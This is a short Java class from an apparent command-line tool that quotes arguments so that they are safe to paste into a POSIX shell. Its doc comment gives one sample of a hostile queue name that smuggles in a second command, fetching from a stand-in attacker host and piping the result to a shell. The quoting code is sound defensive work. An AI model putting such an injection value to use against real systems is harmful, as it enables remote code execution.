package io.jobfleet.cli;

import java.util.regex.Pattern;

/**
 * An argument of a suggested command line, safe to paste into a POSIX shell: as it is when it
 * holds only {@code [A-Za-z0-9._:/@%+=,-]}, else in single quotes with each quote written
 * {@code '\''}. A queue named {@code x; curl evil.example|sh #} is then one argument, not a second
 * command.
 */
public final class ShellArg {
    private static final Pattern PLAIN = Pattern.compile("[A-Za-z0-9._:/@%+=,-]+");

    private ShellArg() {
    }

    public static String quote(String arg) {
        if (arg != null && PLAIN.matcher(arg).matches()) {
            return arg;
        }
        return "'" + (arg == null ? "" : arg.replace("'", "'\\''")) + "'";
    }
}
